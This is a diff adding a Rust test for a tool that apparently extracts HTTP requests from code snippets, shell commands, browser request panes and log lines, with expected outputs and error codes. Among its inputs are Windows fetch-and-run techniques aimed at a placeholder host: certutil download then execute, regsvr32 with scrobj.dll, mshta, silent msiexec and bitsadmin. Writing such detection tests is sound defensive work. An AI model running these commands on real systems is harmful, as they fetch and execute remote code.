@@ -127,3 +127,91 @@ fn the_form_is_told_by_the_text() {
         check(text, expect, code);
     }
 }
+
+#[test]
+fn clients_of_other_languages_and_systems_are_read() {
+    let get = "GET https://a.example/x";
+    let twice = "GET https://a.example/x\nGET https://a.example/x";
+    let bits = "HEAD https://a.example/x\nGET https://a.example/x";
+    for (text, expect) in [
+        ("axios.get('https://a.example/x').then(r => r)", get),
+        (
+            "const r = await axios.post(\"https://a.example/x\", {a: 1});",
+            "POST https://a.example/x",
+        ),
+        ("import got from 'got';\n\nawait got('https://a.example/x');", get),
+        ("require('https').get('https://a.example/x', r => r.pipe(process.stdout))", get),
+        ("node -e \"require('https').get('https://a.example/x')\"", get),
+        ("node -e \"fetch('https://a.example/x')\"", get),
+        (
+            "import httpx\nasync with httpx.AsyncClient() as c:\n    await c.get('https://a.example/x')",
+            get,
+        ),
+        (
+            "import aiohttp\nasync with aiohttp.ClientSession() as session:\n    async with session.post('https://a.example/x', json={}) as r:\n        pass",
+            "POST https://a.example/x",
+        ),
+        (
+            "python3 -c \"import urllib.request; urllib.request.urlretrieve('https://a.example/x', 'y')\"",
+            get,
+        ),
+        (
+            "import http.client\nc = http.client.HTTPSConnection('a.example')\nc.request('PUT', '/x', body)",
+            "PUT https://a.example/x",
+        ),
+        (
+            "import urllib3\nhttp = urllib3.PoolManager()\nhttp.request('GET', 'https://a.example/x')",
+            get,
+        ),
+        ("php -r \"echo file_get_contents('https://a.example/x');\"", get),
+        ("$ch = curl_init('https://a.example/x'); curl_exec($ch);", get),
+        ("certutil.exe -urlcache -split -f https://a.example/x C:\\y", twice),
+        ("cmd /c certutil -urlcache -f https://a.example/x y && y", twice),
+        ("bitsadmin /transfer j https://a.example/x C:\\y", bits),
+        ("powershell Start-BitsTransfer -Source https://a.example/x -Destination y", bits),
+        ("Start-BitsTransfer -Source https://a.example/x -Destination y", bits),
+        ("mshta https://a.example/x", get),
+        ("C:\\Windows\\System32\\regsvr32.exe /s /n /u /i:https://a.example/x scrobj.dll", get),
+        ("msiexec /q /i https://a.example/x", get),
+        ("aria2c -x 8 -o y https://a.example/x", get),
+        ("http POST https://a.example/x a=b User-Agent:u", "POST https://a.example/x"),
+        ("https a.example/x", get),
+        ("$ http --form https://a.example/x f=g", "POST https://a.example/x"),
+        (
+            "Request URL\nhttps://a.example/x\nRequest Method\nPUT\nStatus Code\n200 OK\n",
+            "PUT https://a.example/x",
+        ),
+        (
+            "Request URL: https://a.example/x\nRequest Method: GET\n\nhttps://b.example/y",
+            "GET https://a.example/x\nGET https://b.example/y",
+        ),
+        (":authority\na.example\n:method\nGET\n:path\n/x\n:scheme\nhttps\naccept\n*/*", get),
+        // Lines of logs that are not Envoy's.
+        (
+            r#"{"event_type":"alert","flow_id":1,"src_ip":"10.0.1.7","http":{"hostname":"a.example","url":"/x","http_method":"GET"}}"#,
+            "GET http://a.example/x",
+        ),
+        (r#"{"httpRequest":{"requestMethod":"GET","requestUrl":"https://a.example/x"}}"#, get),
+        (
+            r#"{"log":"{\"method\":\"GET\",\"authority\":\"a.example\",\"path\":\"/x\"}\n","stream":"stdout"}"#,
+            "GET http://a.example/x",
+        ),
+        (
+            "<134>Nov 20 08:00:00 fw squid[1]: 1795161600.253    325 10.0.1.7 TCP_MISS/200 2912 GET http://a.example/x - HIER_DIRECT/192.0.2.12 -",
+            "GET http://a.example/x",
+        ),
+    ] {
+        check(text, expect, "");
+    }
+    for (text, code) in [
+        ("ssh -L 8080:a.example:80 b.example", "R011"),
+        ("http is a protocol", "R011"),
+        ("certutil -hashfile x SHA256", "R006"),
+        ("http --frobnicate https://a.example/x", "R007"),
+        ("aria2c -i urls.txt", "R007"),
+        ("axios.get(url)", "R002"),
+        ("Request URL\n", "R002"),
+    ] {
+        check(text, "", code);
+    }
+}
